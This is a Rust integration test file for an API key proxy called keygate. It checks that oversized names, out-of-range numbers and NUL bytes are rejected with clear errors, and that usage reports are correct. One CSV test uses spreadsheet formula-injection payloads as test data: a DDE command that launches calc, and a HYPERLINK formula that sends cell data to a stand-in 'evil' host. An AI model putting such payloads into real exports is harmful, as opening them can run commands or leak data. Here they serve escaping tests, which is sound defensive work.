//! Bad input that reached the store (issue 22, items 7, 9, 10, 12): megabyte model names that
//! grew the database and the logs page, numbers the store cannot hold that answered 500, a
//! NUL in a price's model name, and CLI CSV reports that spreadsheets ran as formulas.

use std::time::Duration;

use keygate_store::RequestRow;
use keygate_tests::fake_upstream::{Behaviour, FakeUpstream};
use keygate_tests::proxy_client::{chat, post, setup_with_settings};
use keygate_tests::reliability::{admin, assert_no_panic, keys, wait_for_logged};
use keygate_tests::served::{Served, key};
use keygate_tests::{TestEnv, session_available};
use reqwest::Method;
use serde_json::{Value, json};

/// The database and its WAL, in bytes.
fn db_bytes(env: &TestEnv) -> u64 {
    ["keygate.db", "keygate.db-wal"]
        .iter()
        .filter_map(|f| std::fs::metadata(env.home().join(f)).ok())
        .map(|m| m.len())
        .sum()
}

async fn raw(served: &Served, path: &str, body: &Value) -> (u16, String) {
    let response = post(served, path, body).await;
    let status = response.status().as_u16();
    (status, response.text().await.expect("body"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_megabyte_model_name_is_a_400_and_the_database_does_not_grow() {
    if !session_available("a_megabyte_model_name_is_a_400_and_the_database_does_not_grow") {
        return;
    }
    let fake = FakeUpstream::start().await;
    let secret = "sk-fake-limits-big-model-SECRET01";
    fake.set(secret, Behaviour::Ok);
    let served = setup_with_settings(&fake, &[key("big", secret)], &[]).await;
    let response = post(&served, "/v1/chat/completions", &chat(false)).await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        wait_for_logged(&served, 1, Duration::from_secs(10)).await,
        1
    );
    let before = db_bytes(&served.env);

    // `fake/<1 MB>` names a provider explicitly, so before the fix it was served and logged.
    let big = format!("fake/{}", "m".repeat(1024 * 1024));
    let huge_session = "s".repeat(1024 * 1024);
    for _ in 0..10 {
        let body = json!({ "model": big, "messages": [{ "role": "user", "content": "hi" }] });
        let (status, text) = raw(&served, "/v1/chat/completions", &body).await;
        assert_eq!(status, 400, "{}", &text[..text.len().min(300)]);
        let error: Value = serde_json::from_str(&text).expect("OpenAI error JSON");
        assert_eq!(error["error"]["code"], "string_too_long");
        let message = error["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("`model`"), "{message}");
        assert!(text.len() < 1000, "the answer must not quote the name");

        let body = json!({ "model": big, "max_tokens": 5, "messages": [{ "role": "user", "content": "hi" }] });
        let (status, text) = raw(&served, "/v1/messages", &body).await;
        assert_eq!(status, 400, "{}", &text[..text.len().min(300)]);
        let error: Value = serde_json::from_str(&text).expect("Anthropic error JSON");
        assert_eq!(error["type"], "error", "Anthropic's schema: {error}");
        assert!(
            error["error"]["message"]
                .as_str()
                .unwrap_or_default()
                .contains("`model`")
        );

        let body = json!({ "model": "gpt-4o-mini", "user": huge_session, "messages": [] });
        let (status, text) = raw(&served, "/v1/chat/completions", &body).await;
        assert_eq!(status, 400, "{}", &text[..text.len().min(300)]);
        assert!(text.contains("session id"), "{text}");
    }
    // One more good request: once it is logged, everything before it was written too.
    let response = post(&served, "/v1/chat/completions", &chat(false)).await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        wait_for_logged(&served, 2, Duration::from_secs(10)).await,
        2
    );
    let grown = db_bytes(&served.env).saturating_sub(before);
    // One batch dirties a few pages of the WAL; before the fix this was 40+ MB.
    assert!(grown < 128 * 1024, "the database grew by {grown} bytes");

    let (status, logs) = admin(&served, Method::GET, "/api/logs?limit=50", None).await;
    assert_eq!(status, 200);
    let size = logs.to_string().len();
    assert!(size < 32 * 1024, "/api/logs?limit=50 is {size} bytes");
    let (status, body) = admin(&served, Method::GET, "/api/logs?limit=99999999999", None).await;
    assert_eq!(status, 422, "{body}");
    assert!(body["error"]["fields"]["limit"].is_string(), "{body}");
    let log = served.stop();
    assert_no_panic(&log);
}

/// `PUT`s a body and expects a 422 whose `fields` names `field`.
async fn assert_422_names(served: &Served, method: Method, path: &str, body: Value, field: &str) {
    let (status, answer) = admin(served, method, path, Some(&body)).await;
    assert_eq!(status, 422, "{path} {body}: {answer}");
    assert!(
        answer["error"]["fields"][field].is_string(),
        "{path} {body}: the error must name {field:?}: {answer}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn numbers_the_store_cannot_hold_are_a_422_naming_the_field_not_a_500() {
    if !session_available("numbers_the_store_cannot_hold_are_a_422_naming_the_field_not_a_500") {
        return;
    }
    let fake = FakeUpstream::start().await;
    let secret = "sk-fake-limits-numbers-SECRET001";
    fake.set(secret, Behaviour::Ok);
    let served = setup_with_settings(&fake, &[key("numbers", secret)], &[]).await;
    let id = keys(&served).await[0]["id"]
        .as_str()
        .expect("key id")
        .to_string();
    let limits = format!("/api/keys/{id}/limits");
    // The body of issue 22: a u64 one past i64::MAX was a 500 "out of range integral type".
    let over_i64: Value = serde_json::from_str("9223372036854775808").expect("number");
    let over_u64: Value = serde_json::from_str("18446744073709551616").expect("number");
    for (field, value) in [
        ("daily_tokens", over_i64.clone()),
        ("monthly_tokens", over_i64.clone()),
        ("daily_tokens", over_u64.clone()),
        ("rpm", json!(5_000_000_000u64)),
        ("tpm", json!(-1)),
        ("rpd", json!(0)),
        ("daily_budget_usd", json!("-5")),
        ("monthly_budget_usd", json!("99999999999999999999")),
    ] {
        let mut body = json!({});
        body[field] = value;
        assert_422_names(&served, Method::PUT, &limits, body, field).await;
    }
    let config = json!({ "enabled": true, "interval_minutes": 5_000_000_000u64, "max_error_count": 5, "retry_after_minutes": 1 });
    assert_422_names(
        &served,
        Method::PUT,
        "/api/health-check/config",
        config,
        "interval_minutes",
    )
    .await;
    for value in [over_u64.clone(), json!(-1), json!(1.5)] {
        let body = json!({ "value": value });
        assert_422_names(
            &served,
            Method::PUT,
            "/api/settings/proxy.max_attempts",
            body,
            "value",
        )
        .await;
    }
    let body = json!({ "value": 7 });
    assert_422_names(
        &served,
        Method::PUT,
        "/api/settings/retention.rollup_days",
        body,
        "value",
    )
    .await;
    for (field, body) in [
        (
            "priority",
            json!({ "provider": "fake", "secret": "sk-x-1234567890", "priority": over_i64 }),
        ),
        (
            "priority",
            json!({ "provider": "fake", "secret": "sk-x-1234567890", "priority": 5000 }),
        ),
        (
            "weight",
            json!({ "provider": "fake", "secret": "sk-x-1234567890", "weight": 0 }),
        ),
        (
            "expires",
            json!({ "provider": "fake", "secret": "sk-x-1234567890", "expires": "+100000-01-01" }),
        ),
    ] {
        assert_422_names(&served, Method::POST, "/api/keys", body, field).await;
    }
    let body = json!({ "name": "far", "expires": "+100000-01-01" });
    assert_422_names(&served, Method::POST, "/api/tokens", body, "expires").await;
    // Issue 22 item 12: a price for "a\u0000b" was accepted.
    let price =
        |model: &str, input: &str| json!({ "model": model, "input_usd": input, "output_usd": "1" });
    assert_422_names(
        &served,
        Method::PUT,
        "/api/models/price",
        price("a\u{0}b", "1"),
        "model",
    )
    .await;
    let long = "m".repeat(300);
    assert_422_names(
        &served,
        Method::PUT,
        "/api/models/price",
        price(&long, "1"),
        "model",
    )
    .await;
    for input in ["-1", "NaN", "1e30", "99999999999999999999", "100000.000001"] {
        assert_422_names(
            &served,
            Method::PUT,
            "/api/models/price",
            price("m", input),
            "input_usd",
        )
        .await;
    }
    let route = json!({ "tiers": [{ "provider": "fake", "model": "a\u{0}b" }] });
    assert_422_names(
        &served,
        Method::PUT,
        "/api/routes/smart",
        route,
        "tiers[0].model",
    )
    .await;

    // The largest values that fit are accepted.
    let body = json!({ "daily_tokens": i64::MAX, "rpm": u32::MAX });
    let (status, answer) = admin(&served, Method::PUT, &limits, Some(&body)).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["limits"]["daily_tokens"], json!(i64::MAX));

    // The CLI says which flag is wrong (exit 2), not "database error".
    for args in [
        vec![
            "key",
            "limits",
            id.as_str(),
            "--daily-tokens",
            "9223372036854775808",
        ],
        vec!["key", "limits", id.as_str(), "--rpm", "0"],
        vec!["model", "price", "m", "--input=-1", "--output", "1"],
        vec!["model", "price", "m", "--input", "100001", "--output", "1"],
        vec![
            "provider",
            "add",
            "far",
            "--kind",
            "openai",
            "--base-url",
            "http://127.0.0.1:9",
            "--priority",
            "5000",
        ],
        vec!["token", "create", "far", "--expires", "+100000-01-01"],
    ] {
        let out = served.env.run(&args, "");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{args:?} was accepted");
        assert!(!stderr.contains("database error"), "{args:?}: {stderr}");
        assert!(!stderr.is_empty(), "{args:?} failed without a word");
    }
    let out = served.env.run(
        &[
            "key",
            "limits",
            &id,
            "--daily-tokens",
            "9223372036854775808",
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--daily-tokens"));
    let log = served.stop();
    assert_no_panic(&log);
}

/// Adds the `providers` (OpenAI kind, nothing listening) and one key of the first, labelled
/// `label`, through the CLI; returns the key's id.
fn one_key(env: &TestEnv, providers: &[&str], label: &str) -> String {
    for name in providers {
        env.ok(
            &[
                "provider",
                "add",
                name,
                "--kind",
                "openai",
                "--base-url",
                "http://127.0.0.1:9",
            ],
            "",
        );
    }
    let out = env
        .keygate()
        .args(["key", "add", "--provider", providers[0], "--label", label])
        .args(["--secret-env", "KG_LIMITS_SECRET"])
        .env("KG_LIMITS_SECRET", "sk-fake-limits-SECRET00000000001")
        .output()
        .expect("key add");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed: Vec<Value> =
        serde_json::from_str(&env.ok(&["--json", "key", "list"], "")).expect("key list");
    listed[0]["id"].as_str().expect("id").to_string()
}

/// A served request's log row, as the writer would save it (10 prompt and 5 completion
/// tokens of gpt-4o, unpriced).
fn logged(id: &str, at: &str, provider: &str, key_id: &str) -> RequestRow {
    RequestRow {
        id: id.into(),
        at: at.into(),
        token: Some("cli".into()),
        endpoint: "/v1/chat/completions".into(),
        model_requested: "gpt-4o".into(),
        model_served: Some("gpt-4o".into()),
        provider: Some(provider.into()),
        key_id: Some(key_id.into()),
        status: 200,
        error_class: None,
        attempts: Vec::new(),
        latency_ms: 10,
        ttfb_ms: None,
        stream: false,
        prompt_tokens: Some(10),
        completion_tokens: Some(5),
        cached_tokens: None,
        cost_micros: None,
    }
}

#[test]
fn cli_csv_reports_escape_formula_model_names_and_key_labels() {
    if !session_available("cli_csv_reports_escape_formula_model_names_and_key_labels") {
        return;
    }
    let env = TestEnv::new();
    let label = "=cmd|' /C calc'!A0";
    let key_id = one_key(&env, &["fake"], label);
    let model = "=HYPERLINK(\"http://evil/\"&A1)";
    let at = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let row = |id: &str, model: &str| RequestRow {
        token: Some("@SUM(A1)".into()),
        model_requested: model.into(),
        model_served: Some(model.into()),
        ..logged(id, &at, "fake", &key_id)
    };
    env.store()
        .write_batch(&[row("r1", model), row("r2", "gpt-4o")], &[])
        .expect("rows");
    let csv = |by: &str| env.ok(&["report", "--format", "csv", "--by", by], "");

    let by_model = csv("model");
    assert!(
        by_model.contains("\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",1,"),
        "the model must be text, quoted per RFC 4180:\n{by_model}"
    );
    assert!(by_model.contains("\ngpt-4o,1,"), "{by_model}");
    let by_key = csv("key");
    assert!(
        by_key.contains(&format!("\n'{label} ({key_id}),2,")),
        "the key label must be text:\n{by_key}"
    );
    let by_token = csv("token");
    assert!(by_token.contains("\n'@SUM(A1),2,"), "{by_token}");
    for text in [&by_model, &by_key, &by_token] {
        for line in text.lines() {
            assert!(
                !line.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {line}"
            );
        }
    }
}

/// `keygate report --month YYYY-MM` sums that UTC month only (its first and last millisecond
/// in, the next month's first out), by provider and by key, in each format; a bad month is a
/// usage error that says how to write one.
#[test]
fn a_month_report_sums_that_month_by_provider_and_key() {
    if !session_available("a_month_report_sums_that_month_by_provider_and_key") {
        return;
    }
    let env = TestEnv::new();
    let key_id = one_key(&env, &["fake", "other"], "monthly");
    let row = |id: &str, at: &str, provider: &str, cost: u64| RequestRow {
        cost_micros: Some(cost),
        ..logged(id, at, provider, &key_id)
    };
    env.store()
        .write_batch(
            &[
                row("r0", "2026-10-31T23:59:59.999Z", "fake", 1),
                row("r1", "2026-11-01T00:00:00.000Z", "fake", 20),
                row("r2", "2026-11-15T12:00:00.000Z", "other", 300),
                row("r3", "2026-11-30T23:59:59.999Z", "fake", 4_000),
                row("r4", "2026-12-01T00:00:00.000Z", "fake", 50_000),
            ],
            &[],
        )
        .expect("rows");

    let json: Value =
        serde_json::from_str(&env.ok(&["--json", "report", "--month", "2026-11"], ""))
            .expect("json");
    assert_eq!(json["total"]["requests"], 3, "{json}");
    assert_eq!(json["total"]["cost_micros"], 4_320, "{json}");
    let provider = |name: &str| {
        json["providers"]
            .as_array()
            .expect("providers")
            .iter()
            .find(|r| r["group"] == name)
            .map(|r| r["cost_micros"].clone())
    };
    assert_eq!(provider("fake"), Some(json!(4_020)));
    assert_eq!(provider("other"), Some(json!(300)));
    assert_eq!(json["keys"][0]["label"], "monthly", "{json}");

    let csv = env.ok(&["report", "--month", "2026-11", "--format", "csv"], "");
    assert!(
        csv.starts_with("section,group,requests,errors,failed_attempts,"),
        "{csv}"
    );
    assert!(csv.contains("\nprovider,fake,2,"), "{csv}");
    assert!(
        csv.contains(&format!("\nkey,monthly ({key_id}),3,")),
        "{csv}"
    );
    assert!(csv.contains("\ntotal,total,3,"), "{csv}");
    let table = env.ok(&["report", "--month", "2026-11"], "");
    assert!(table.contains("Usage in 2026-11 (UTC)"), "{table}");
    assert!(
        table.contains("PROVIDER") && table.contains("KEY"),
        "{table}"
    );

    let empty = env.ok(&["report", "--month", "2025-01"], "");
    assert!(empty.contains("No requests in 2025-01"), "{empty}");
    for bad in ["2026-13", "november", "2026-1"] {
        let out = env
            .keygate()
            .args(["report", "--month", bad])
            .output()
            .expect("report");
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("like 2026-11"),
            "{bad}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let out = env
        .keygate()
        .args(["report", "--month", "2026-11", "--from", "2026-11-02"])
        .output()
        .expect("report");
    assert_eq!(out.status.code(), Some(2), "--month and --from together");
}
